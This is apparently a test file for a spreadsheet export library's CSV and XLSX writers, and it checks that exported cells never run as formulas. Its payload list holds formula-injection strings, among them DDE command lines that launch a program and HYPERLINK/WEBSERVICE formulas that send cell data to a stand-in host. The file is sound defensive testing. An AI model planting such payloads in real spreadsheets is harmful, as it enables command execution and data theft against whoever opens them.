import { read, utils, type WorkBook } from '@e965/xlsx';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import type { LegalDay } from '../../src/law/legal-day.js';
import { csvOf } from '../../src/spreadsheets/csv-writer.js';
import { guarded, unguarded } from '../../src/spreadsheets/formula-guard.js';
import type { Column } from '../../src/spreadsheets/table.js';
import { xlsxOf } from '../../src/spreadsheets/xlsx.js';

interface Row {
  readonly text: string | null;
  readonly day: LegalDay | null;
  readonly number: number | null;
}

const COLUMNS: readonly Column<Row>[] = [
  { name: 'text', kind: 'text', width: 20, valueOf: ({ text }) => text },
  { name: 'day', kind: 'day', width: 12, valueOf: ({ day }) => day },
  { name: 'number', kind: 'number', width: 8, valueOf: ({ number }) => number },
];

const row = (text: string | null, day: LegalDay | null = null, number: number | null = null): Row => ({
  text,
  day,
  number,
});

async function* inBatches(rows: readonly Row[], size = 100): AsyncGenerator<readonly Row[]> {
  for (let start = 0; start < rows.length; start += size) yield await Promise.resolve(rows.slice(start, start + size));
}

const table = (rows: readonly Row[], size?: number) => ({
  name: 'Rows',
  columns: COLUMNS,
  batches: inBatches(rows, size),
});

const workbook = async (stream: Readable): Promise<WorkBook> =>
  read(await buffer(stream), { cellFormula: true, bookFiles: true });

const csv = async (rows: readonly Row[], options?: Parameters<typeof csvOf>[1]): Promise<string> => {
  let text = '';
  for await (const chunk of csvOf(table(rows), options)) text += chunk;
  return text;
};

/** What has run in spreadsheets of others. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A2,"open")',
  '=WEBSERVICE("https://evil.example/")',
  "+cmd|' /C calc'!A0",
  ' =1+1',
  '\u00a0=1+1',
  '\n=1+1',
  "'=1+1",
  "''=1+1",
  "' =1+1",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1"',
  '","=1+1',
  ';=1+1;',
  'a\n=1+1',
  '-',
  '+49 30 1234',
  '_x003D_1+1',
  '<f>1+1</f>',
  '{=1+1}',
  '%0A=1',
  '|calc',
  '1,5',
  '007',
  '2026-11-24',
  'TRUE',
  "O'Neil",
  "'quoted'",
] as const;

describe('A cell of CSV', () => {
  test.each(PAYLOADS)('is no formula and comes back as it was: %j', async (payload) => {
    const [[, ...header], [cell]] = [['text', 'day'], parse(await csv([row(payload)]))[1] as string[]];
    expect(header).toEqual(['day']);
    expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
    expect(unguarded(cell!)).toBe(payload);
  });

  test('whatever it holds, guarding is undone by its opposite alone', () => {
    const odd = fc.string({ unit: fc.constantFrom("'", '=', '-', '@', ' ', '\n', 'a', '＋') });
    fc.assert(
      fc.property(fc.oneof(odd, fc.string({ unit: 'grapheme' })), (text) => {
        expect(unguarded(guarded(text))).toBe(text);
        expect(guarded(text)).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
      }),
      { numRuns: 2000 },
    );
  });

  test('keeps numbers below zero, days as ISO, and nothing where nothing is known', async () => {
    expect(await csv([row(null, '2020-02-29', -3), row('a "b"', null, 0)])).toBe(
      'text,day,number\r\n,2020-02-29,-3\r\n"a ""b""",,0\r\n',
    );
  });

  test.each(['a\n=1+1', 'a\r=1+1', 'a\r\n=1+1'])('is quoted where it has a line break: %j', async (text) => {
    expect(await csv([row(text)])).toBe(`text,day,number\r\n"${text}",,\r\n`);
  });

  test('begins with a byte order mark only where that is asked for', async () => {
    expect((await csv([])).startsWith('text')).toBe(true);
    expect(await csv([], { byteOrderMark: true })).toBe('\ufefftext,day,number\r\n');
  });
});

describe('A workbook', () => {
  test('has no formula, and each text as it was', async () => {
    const { Sheets, files } = (await workbook(xlsxOf(table(PAYLOADS.map((text) => row(text)))))) as WorkBook & {
      files: Record<string, { content: Uint8Array }>;
    };
    PAYLOADS.forEach((payload, at) => {
      const cell = Sheets['Rows']![`A${at + 2}`];
      expect([payload, cell.t, cell.v, cell.f]).toEqual([payload, 's', payload, undefined]);
    });
    expect(Buffer.from(files['xl/worksheets/sheet1.xml']!.content).toString()).not.toMatch(/<f[ >]/);
  });

  // A serial number has no time zone: the days from 30 December 1899, as every spreadsheet counts them.
  test.each([
    ['1900-03-01', 61],
    ['1970-01-01', 25_569],
    ['2020-02-29', 43_890],
    ['2026-03-29', 46_110],
    ['2026-10-25', 46_320],
    ['9999-12-31', 2_958_465],
  ] as const)('has the day %s as a day, in any time zone', async (day, serial) => {
    const { Sheets } = await workbook(xlsxOf(table([row(null, day)])));
    expect(Sheets['Rows']!['B2']).toMatchObject({ t: 'n', v: serial, w: day });
  });

  test('has a day before 1 March 1900 as a text, for spreadsheets miscount it', async () => {
    const { Sheets } = await workbook(xlsxOf(table([row(null, '1900-02-28')])));
    expect(Sheets['Rows']!['B2']).toMatchObject({ t: 's', v: '1900-02-28' });
  });

  test('keeps its header in sight, with a filter over all rows and columns of their width', async () => {
    const { Sheets, files } = (await workbook(xlsxOf(table([row('a'), row('b')])))) as WorkBook & {
      files: Record<string, { content: Uint8Array }>;
    };
    expect(Sheets['Rows']!['!autofilter']).toEqual({ ref: 'A1:C3' });
    const xml = Buffer.from(files['xl/worksheets/sheet1.xml']!.content).toString();
    expect(xml).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>');
    expect(xml).toContain('<col min="1" max="1" width="20" customWidth="1"/>');
  });

  test('goes on in further sheets where one is full, each with the header', async () => {
    const rows = Array.from({ length: 11 }, (_, at) => row(`row ${at}`));
    const { Sheets, SheetNames } = await workbook(xlsxOf(table(rows, 3), 5));
    expect(SheetNames).toEqual(['Rows', 'Rows 2', 'Rows 3']);
    const sheets = SheetNames.map((name) => utils.sheet_to_json<{ text: string }>(Sheets[name]!));
    expect(sheets.map(({ length }) => length)).toEqual([4, 4, 3]);
    expect(sheets.flat().map(({ text }) => text)).toEqual(rows.map(({ text }) => text));
  });

  test('is one sheet with a header where there is nothing', async () => {
    const { Sheets, SheetNames } = await workbook(xlsxOf(table([])));
    expect([SheetNames, Sheets['Rows']!['!ref']]).toEqual([['Rows'], 'A1:C1']);
  });

  test('cuts what no cell holds, between letters, and writes what XML has no letter for as unknown', async () => {
    const long = '𝒳'.repeat(20_000);
    const { Sheets } = await workbook(xlsxOf(table([row(long), row('a\u0001b\ud800c\uffff'), row('tab\tand\nline')])));
    const cells = ['A2', 'A3', 'A4'].map((at) => Sheets['Rows']![at].v as string);
    expect(cells[0]).toBe(`${'𝒳'.repeat(16_383)}…`);
    expect(cells.slice(1)).toEqual(['a\ufffdb\ufffdc\ufffd', 'tab\tand\nline']);
  });

  test('is the same bytes for the same rows', async () => {
    const once = () => buffer(xlsxOf(table([row('a', '2020-02-29', 1)])));
    expect((await once()).equals(await once())).toBe(true);
  });
});

describe('Rows', () => {
  /** Endless batches, and how many were asked for. */
  function source() {
    const seen = { asked: 0, ended: false };
    const batches = async function* (): AsyncGenerator<readonly Row[]> {
      try {
        for (;;) {
          seen.asked++;
          // Hard to press together, so that what is held back shows.
          yield await Promise.resolve(
            Array.from({ length: 500 }, () =>
              row(Array.from({ length: 20 }, () => Math.random().toString(36)).join('')),
            ),
          );
        }
      } finally {
        seen.ended = true;
      }
    };
    return { seen, table: { name: 'Rows', columns: COLUMNS, batches: batches() } };
  }

  const settled = (): Promise<void> => new Promise((resolve) => setImmediate(() => setImmediate(resolve)));

  test('are asked for only as fast as the workbook is read, and no more once it is given up', async () => {
    const { seen, table: endless } = source();
    const stream = xlsxOf(endless);
    let read = 0;
    for await (const chunk of stream) {
      read += (chunk as Buffer).length;
      if (read > 1_000_000) break;
    }
    while (!seen.ended) await settled();
    const asked = seen.asked;
    // A batch is about 50 kB pressed together: what was asked for beyond what was read is bounded.
    expect(asked).toBeLessThan(60);
    await settled();
    expect(seen.asked).toBe(asked);
  });

  test('that cannot be read break the workbook off, so that none looks whole', async () => {
    const batches = async function* (): AsyncGenerator<readonly Row[]> {
      yield await Promise.resolve([row('first')]);
      throw new Error('the database is gone');
    };
    await expect(buffer(xlsxOf({ name: 'Rows', columns: COLUMNS, batches: batches() }))).rejects.toThrow(
      'the database is gone',
    );
  });
});

const OFFICE = '/usr/bin/soffice';
const inLibreOffice = existsSync(OFFICE) ? describe : describe.skip;

inLibreOffice('LibreOffice', () => {
  const folder = mkdtempSync(join(tmpdir(), 'clausebook-sheets-'));
  afterAll(() => rmSync(folder, { recursive: true }));

  const TEXTS = Array.from(
    { length: 5000 },
    (_, at) => PAYLOADS[at % PAYLOADS.length]! + (at >= PAYLOADS.length ? at : ''),
  );

  /** The first sheet as a spreadsheet shows it once it has opened and worked out the file. */
  function shown(name: string, content: string | Buffer): string[][] {
    writeFileSync(join(folder, name), content);
    const asText = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false';
    const asRead = name.endsWith('.csv') ? ['--infilter=Text - txt - csv (StarCalc):44,34,76,1'] : [];
    execFileSync(
      OFFICE,
      [
        `-env:UserInstallation=file://${folder}/profile`,
        '--headless',
        ...asRead,
        '--convert-to',
        asText,
        '--outdir',
        join(folder, 'out'),
        join(folder, name),
      ],
      { stdio: 'pipe' },
    );
    return parse(readFileSync(join(folder, 'out', name.replace(/\.\w+$/, '.csv'))), { relax_column_count: true });
  }

  test('evaluates none of 5,000 cells of a workbook, and shows days as they are', async () => {
    const rows = TEXTS.map((text) => row(text, '2020-02-29', -3));
    const [, ...cells] = shown('workbook.xlsx', await buffer(xlsxOf(table(rows))));
    expect(cells).toEqual(TEXTS.map((text) => [text, '2020-02-29', '-3']));
  }, 120_000);

  test('evaluates none of 5,000 cells of CSV', async () => {
    const [, ...cells] = shown('table.csv', await csv(TEXTS.map((text) => row(text, '2020-02-29'))));
    expect(cells).toHaveLength(5000);
    const evaluated = cells.filter(([text], at) => text !== guarded(TEXTS[at]!) && !isNumber(TEXTS[at]!));
    expect(evaluated).toEqual([]);
  }, 120_000);

  /** What a spreadsheet shows in its own way without running it: a number, a day, a truth value. */
  const isNumber = (text: string): boolean => /^[\d.,]+$|^\d{4}-\d\d-\d\d\d*$|^TRUE$/.test(text);
});
